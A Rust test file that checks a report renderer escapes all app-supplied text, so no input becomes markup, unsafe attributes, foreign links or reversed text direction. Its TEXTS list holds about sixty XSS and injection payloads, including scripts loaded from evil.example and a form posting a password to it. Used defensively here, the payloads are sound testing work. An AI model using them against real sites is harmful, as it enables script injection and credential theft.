//! No text of an app becomes anything but text, whatever it contains.

use super::html::{Child, Node, parse};
use super::*;
use std::collections::BTreeSet;

/// Texts that attack a page: those of OWASP's filter evasion cheat sheet by kind, changes of direction, the
/// ends of what the page itself writes.
const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<SCRIPT/XSS SRC=\"http://evil.example/x.js\"></SCRIPT>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(\"x\")</SCRIPT>\"\\>",
    "<img src=`javascript:alert(1)`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' onfocus='alert(1)' autofocus='",
    "\" onmouseover=\"alert(1)\" x=\"",
    "` onclick=`alert(1)",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">",
    "<base href=\"http://evil.example/\">",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{background:url(http://evil.example)}</style>",
    "</style><b>",
    "url(http://evil.example/x.png)",
    "expression(alert(1))",
    "};--d:url(//evil.example);{",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<form action=//evil.example><input name=password><button>",
    "<object data=x><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "</article></main></body></html>",
    "</mi-chart><mi-chart data-chart='{\"kind\":\"constructor\"}'>",
    "</textarea></title></noscript></template>",
    "<template><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "__proto__",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;",
    "&quot;&amp;&nbsp;&",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{0}<\u{0}script>",
    "\u{FEFF}<script>",
    "＜script＞alert(1)＜/script＞",
    "\u{202E}tpircs\u{202C}",
    "\u{2066}\u{2067}isolé\u{2069}",
    "\u{200F}שלום\u{200E}",
    "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
    "\r\n\r\n<html>",
    "\t\u{B}\u{C}onload=alert(1)",
    "] ]> -->",
    "?page=2&x=\"><script>",
    "'';!--\"<XSS>=&{()}",
];

/// Elements that a view or a form may be made of, each with its attributes beside [`COMMON`].
const ELEMENTS: &[(&str, &[&str])] = &[
    ("a", &["href", "aria-current"]),
    ("article", &["data-d"]),
    ("bdi", &[]),
    ("button", &["type"]),
    ("circle", SHAPE),
    ("dd", &[]),
    ("details", &[]),
    ("div", &["role", "tabindex"]),
    ("dl", &[]),
    ("dt", &[]),
    ("fieldset", &[]),
    ("figcaption", &[]),
    ("caption", &[]),
    ("figure", &["aria-label", "role"]),
    ("form", &["method", "action"]),
    ("h1", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("header", &[]),
    (
        "input",
        &[
            "id",
            "type",
            "inputmode",
            "autocomplete",
            "name",
            "value",
            "checked",
            "role",
            "min",
            "max",
            "aria-invalid",
        ],
    ),
    ("label", &["for"]),
    ("legend", &[]),
    ("li", &[]),
    ("mi-chart", &["data-chart"]),
    ("nav", &[]),
    ("ol", &[]),
    ("option", &["value", "selected"]),
    ("p", &["role"]),
    ("path", SHAPE),
    ("pre", &[]),
    ("progress", &["max", "value"]),
    ("rect", SHAPE),
    ("section", &["id"]),
    ("select", &["id", "name", "aria-invalid"]),
    ("small", &["id"]),
    ("span", &[]),
    ("strong", &[]),
    ("summary", &[]),
    ("svg", &["viewBox", "preserveAspectRatio"]),
    ("table", &["role"]),
    ("tbody", &["role"]),
    ("td", &["role", "data-l"]),
    ("th", &["role", "scope"]),
    ("thead", &["role"]),
    ("time", &["datetime"]),
    ("tr", &["role"]),
    ("ul", &[]),
];

/// Attributes of every element.
const COMMON: &[&str] = &["class", "lang", "dir", "aria-hidden", "aria-label", "aria-describedby"];

/// Attributes of a shape.
const SHAPE: &[&str] = &[
    "d",
    "cx",
    "cy",
    "r",
    "rx",
    "ry",
    "x",
    "y",
    "width",
    "height",
    "fill",
    "stroke",
    "stroke-width",
    "stroke-linejoin",
    "vector-effect",
];

/// Attributes whose value may be a text of the app. All others have a value of the host.
const SAID: &[(&str, &str)] = &[
    ("figure", "aria-label"),
    ("div", "aria-label"),
    ("progress", "aria-label"),
    ("td", "data-l"),
    ("mi-chart", "data-chart"),
    ("input", "name"),
    ("input", "value"),
    ("select", "name"),
    ("option", "value"),
];

/// Everything that is drawn, with texts made by `text`.
fn drawn(text: &dyn Fn(&str) -> String) -> String {
    let app = text("Conso");
    let read = text("lu");
    let mut all = String::new();
    for pages in [Pages::All, Pages::One(0), Pages::One(1)] {
        let context = Context { pages, is_trial: true, read: &read, ..context(&app, &path) };
        let params = settings(text);
        let filled = Filled {
            answers: params.iter().map(|param| (param.id.clone(), text("typed"))).collect(),
            errors: params.iter().map(|param| (param.id.clone(), text("wrong"))).collect(),
        };
        let form = parameters(&params, &filled, "/runs", Lang::Fr);
        all.push_str(&report(&view(text), &context, Some(form)).into_string());
        all.push_str(&notes(&text("noté"), Lang::Fr).into_string());
    }
    all
}

/// The sample view, with currencies that no check let through.
fn view(text: &dyn Fn(&str) -> String) -> View {
    let mut view = sample::view(Lang::Fr, text);
    for block in view.pages.iter_mut().flat_map(|page| &mut page.sections).flat_map(|one| &mut one.blocks) {
        match block {
            Block::Chart(Chart { plot: Plot::Parts(parts), .. }) => parts.currency = Some(text("EUR")),
            Block::Chart(Chart { plot: Plot::Xy(xy), .. }) => {
                xy.series.iter_mut().for_each(|series| series.currency = Some(text("EUR")));
            }
            Block::KeyFigures(figures) => {
                let amount = decimal(5, 0);
                figures[0].value = Value::Money(Money { amount, currency: text("EUR") });
                figures.push(KeyFigure { value: Value::Text(text("valeur")), ..figures[0].clone() });
            }
            Block::Table(table) => table.cells[0] = Value::Text(text("cellule")),
            Block::Timeline(timeline) => timeline.events[0].value = Some(Value::Text(text("valeur"))),
            _ => {}
        }
    }
    view
}

/// Names and attributes of all elements, without the values of attributes: the shape of a page.
fn shape(page: &Node) -> Vec<(String, Vec<String>)> {
    let names = |node: &&Node| (node.name.clone(), node.attributes.keys().cloned().collect());
    page.elements().iter().map(names).collect()
}

fn check(page: &Node, calm: &Node) {
    assert_eq!(page.elements().len(), calm.elements().len());
    for (node, calm) in page.elements().into_iter().zip(calm.elements()) {
        let allowed = ELEMENTS.iter().find(|(name, _)| *name == node.name);
        let (_, own) = allowed.unwrap_or_else(|| panic!("<{}>", node.name));
        for (attribute, value) in &node.attributes {
            let name = attribute.as_str();
            assert!(COMMON.contains(&name) || own.contains(&name), "<{} {name}>", node.name);
            // What the host writes is the same for any text: addresses above all.
            if !SAID.contains(&(node.name.as_str(), name)) {
                assert_eq!(calm.attribute(name), Some(value.as_str()), "<{} {name}>", node.name);
            }
        }
        for link in node.attribute("href").into_iter().chain(node.attribute("action")) {
            assert!(
                link.starts_with("?page=")
                    || link.starts_with("/results/1/")
                    || link == "/runs"
                    || link.strip_prefix("#part-").is_some_and(|at| !at.contains(char::is_alphabetic)),
                "{link}"
            );
        }
    }
}

#[test]
fn a_view_never_becomes_markup() {
    let calm = parse(&drawn(&|text| format!("calme {text}")));
    for hostile in TEXTS {
        let page = parse(&drawn(&|text| format!("{hostile}{text}")));
        check(&page, &calm);
        assert_eq!(shape(&page), shape(&calm), "{hostile:?}");
    }
}

/// Numbers that follow a mark in a text.
fn numbers(text: &str, mark: &str) -> BTreeSet<String> {
    text.split(mark).skip(1).filter_map(|rest| Some(rest.split_once('•')?.0.to_owned())).collect()
}

/// All texts in JSON.
fn texts(json: &serde_json::Value) -> Vec<&str> {
    match json {
        serde_json::Value::String(text) => vec![text],
        serde_json::Value::Array(items) => items.iter().flat_map(texts).collect(),
        serde_json::Value::Object(fields) => fields.values().flat_map(texts).collect(),
        _ => Vec::new(),
    }
}

#[test]
fn every_text_of_a_view_is_shown_as_text() {
    for hostile in TEXTS {
        // Each text has its own number after the hostile one.
        let count = std::cell::Cell::new(0_usize);
        let view = sample::view(Lang::Fr, &|_| {
            count.set(count.get() + 1);
            format!("{hostile}{}•", count.get())
        });
        let json = serde_json::to_value(&view).unwrap();
        let there: BTreeSet<String> = texts(&json).iter().flat_map(|text| numbers(text, hostile)).collect();
        assert!(there.len() > 140, "{}", there.len());
        let page = parse(&report(&view, &context("Conso", &path), None).into_string());
        let mut shown = numbers(&page.text(), hostile);
        // A table that is alone in its section has its title as the name of its region.
        let names = page.elements().into_iter().filter_map(|node| node.attribute("aria-label"));
        shown.extend(names.flat_map(|name| numbers(name, hostile)));
        let lost: Vec<&String> = there.difference(&shown).collect();
        assert!(lost.is_empty(), "{hostile:?}: {lost:?}");
    }
}

#[test]
fn a_script_gets_texts_as_texts() {
    for hostile in TEXTS {
        let page = parse(&drawn(&|text| format!("{hostile}{text}")));
        let charts = page.all("mi-chart");
        assert!(charts.len() > 10);
        for chart in charts {
            let spec: serde_json::Value =
                serde_json::from_str(chart.attribute("data-chart").unwrap()).unwrap();
            let kinds = ["line", "area", "bar", "stacked-bar", "parts", "calendar", "heatmap"];
            assert!(kinds.contains(&spec["kind"].as_str().unwrap()));
            for key in spec.as_object().unwrap().keys() {
                let known = [
                    "kind", "currency", "unit", "suffix", "axis", "series", "slices", "start", "values",
                    "rows", "columns", "cells",
                ];
                assert!(known.contains(&key.as_str()), "{key}");
            }
            if let Some(label) = spec["series"][0]["label"].as_str() {
                assert!(label.starts_with(hostile));
            }
        }
    }
}

#[test]
fn a_text_beside_words_of_the_host_cannot_turn_them_round() {
    // Each text of the app fills an element with `dir="auto"` or is in a `bdi`.
    // Currencies are codes of three letters, which the host checks.
    let hebrew = |text: &str| match text {
        "EUR" => text.to_owned(),
        text => format!("\u{5D0}\u{5D1}{text}"),
    };
    let page = parse(&drawn(&hebrew));
    fn isolated(node: &Node, inside: bool) {
        let inside = inside || node.name == "bdi" || node.attribute("dir") == Some("auto");
        for child in &node.children {
            match child {
                Child::Element(node) => isolated(node, inside),
                Child::Text(text) => {
                    assert!(inside || !text.contains('\u{5D0}'), "<{}>: {text}", node.name);
                }
            }
        }
    }
    isolated(&page, false);
}
